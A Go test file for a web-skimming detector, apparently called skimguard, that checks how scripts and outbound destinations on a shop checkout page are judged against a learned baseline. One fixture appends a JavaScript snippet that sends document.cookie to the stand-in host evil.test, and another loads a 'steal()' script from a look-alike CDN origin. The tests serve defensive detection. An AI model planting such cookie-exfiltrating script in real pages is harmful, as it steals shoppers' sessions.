package baseline

import (
	"crypto/sha256"
	"encoding/hex"
	"testing"

	skimguard "github.com/skimguard/skimguard"
)

func sum(src string) string {
	h := sha256.Sum256([]byte(src))
	return hex.EncodeToString(h[:])
}

func TestJudgeReportedScriptByTheRulesOfCompare(t *testing.T) {
	b := learn(t, shop(1), shop(2), shop(3))
	b.Site, b.Page, b.URL = "shop", "checkout", "https://shop.test/checkout"
	never := func(int) bool { return false }
	// The URL as a shopper's browser loads it: another cache buster.
	modernizrURL := "https://shop.test/static/js/modernizr.js?cb=99"

	t.Run("an approved text is approved, whatever the volatile parts of its URL", func(t *testing.T) {
		if v, f := JudgeReportedScript(b, modernizrURL, sum(modernizr), never); v != skimguard.VerdictApproved || f != nil {
			t.Fatalf("%s %+v", v, f)
		}
	})
	t.Run("another text of an approved script is script.changed, and approving it adds the hash only", func(t *testing.T) {
		evil := modernizr + `;new Image().src="https://evil.test/?"+document.cookie`
		v, f := JudgeReportedScript(b, modernizrURL, sum(evil), never)
		if v != skimguard.VerdictFinding || f == nil || f.Kind != skimguard.KindScriptChanged || f.Severity != skimguard.SeverityHigh {
			t.Fatalf("%s %+v", v, f)
		}
		if f.Evidence.After != skimguard.ScriptHash(sum(evil)) || f.Evidence.Before != skimguard.ScriptHash(sum(modernizr)) || f.Fingerprint == "" {
			t.Errorf("evidence %+v, fingerprint %q", f.Evidence, f.Fingerprint)
		}
		nb, err := Apply(b, []skimguard.Finding{*f}, skimguard.Resolution{Status: skimguard.StatusApproved, By: "alice", Reason: "vendor update"})
		if err != nil {
			t.Fatal(err)
		}
		if v, _ := JudgeReportedScript(nb, modernizrURL, sum(evil), never); v != skimguard.VerdictApproved {
			t.Errorf("after approval the reported hash is %s, want approved", v)
		}
		// The approved text stays the one a check read: checks of the
		// old version pass and its source is kept.
		if fs := Compare(nb, shop(4)); len(fs) != 0 {
			t.Errorf("after approval a clean load has findings:%s", describe(fs))
		}
		for _, it := range nb.Items {
			if it.Type == skimguard.ItemScript && it.Key == f.Item.Key && (it.Source != modernizr || it.Attrs[skimguard.AttrIntegrity] != "") {
				t.Errorf("approval replaced the approved text or attributes: %+v", it)
			}
		}
	})
	t.Run("a script the baseline has not is script.added, critical from a new origin", func(t *testing.T) {
		v, f := JudgeReportedScript(b, "https://jquery-cdn.evil.test/jquery.min.js", sum("steal()"), never)
		if v != skimguard.VerdictFinding || f.Kind != skimguard.KindScriptAdded || f.Severity != skimguard.SeverityCritical {
			t.Fatalf("%s %+v", v, f)
		}
		nb, err := Apply(b, []skimguard.Finding{*f}, skimguard.Resolution{Status: skimguard.StatusApproved, By: "alice", Reason: "known"})
		if err != nil {
			t.Fatal(err)
		}
		if v, _ := JudgeReportedScript(nb, "https://jquery-cdn.evil.test/jquery.min.js", sum("steal()"), never); v != skimguard.VerdictApproved {
			t.Errorf("after approval: %s", v)
		}
		// A check that then sees that script with that text agrees.
		o := shop(4)
		o.Scripts = append(o.Scripts, script(skimguard.ScriptExternal, "https://jquery-cdn.evil.test/jquery.min.js", o.FinalURL, "steal()"))
		if fs := Compare(nb, o); len(fs) != 0 {
			t.Errorf("a check of the approved script has findings:%s", describe(fs))
		}
	})
	t.Run("a script the baseline knows by structure is volatile, never a finding", func(t *testing.T) {
		gtmURL := "https://www.googletagmanager.com/gtm.js?id=GTM-ABC12"
		volatile := LearntByStructure(b, []*skimguard.Observation{shop(1), shop(2), shop(3)})
		v, f := JudgeReportedScript(b, gtmURL, sum(gtm(7)), func(i int) bool { return volatile[i] })
		if v != skimguard.VerdictVolatile || f != nil {
			t.Fatalf("%s %+v", v, f)
		}
		if v, _ := JudgeReportedScript(b, gtmURL, sum(gtm(1)), func(i int) bool { return volatile[i] }); v != skimguard.VerdictApproved {
			t.Errorf("the very text the baseline holds: %s", v)
		}
	})
}

func TestJudgeReportedDestination(t *testing.T) {
	b := learn(t, shop(1), shop(2), shop(3))
	b.Site, b.Page, b.URL = "shop", "checkout", "https://shop.test/checkout"
	if v, f := JudgeReportedDestination(b, "https://www.google-analytics.com", "connect-src"); v != skimguard.VerdictApproved || f != nil {
		t.Errorf("an approved destination: %s %+v", v, f)
	}
	if v, f := JudgeReportedDestination(b, "inline", "script-src-elem"); v != skimguard.VerdictInformation || f != nil {
		t.Errorf("blocked inline code: %s %+v", v, f)
	}
	v, f := JudgeReportedDestination(b, "https://evil.test", "img-src")
	if v != skimguard.VerdictFinding || f.Kind != skimguard.KindConnectionAdded || f.Subject != "https://evil.test" {
		t.Fatalf("a new destination: %s %+v", v, f)
	}
	// A check that sees the page send there raises the same finding, so
	// the two stay one while it is open.
	o := shop(4)
	o.Connections = append(o.Connections, skimguard.Connection{Origin: "https://evil.test", Types: []string{"Image"}, Count: 1})
	seen := false
	for _, cf := range Compare(b, o) {
		if cf.Kind == skimguard.KindConnectionAdded {
			seen = true
			if cf.Fingerprint != f.Fingerprint {
				t.Errorf("a check's connection.added has fingerprint %s, the reported one %s", cf.Fingerprint, f.Fingerprint)
			}
		}
	}
	if !seen {
		t.Errorf("the check raised no connection.added to compare with")
	}
}
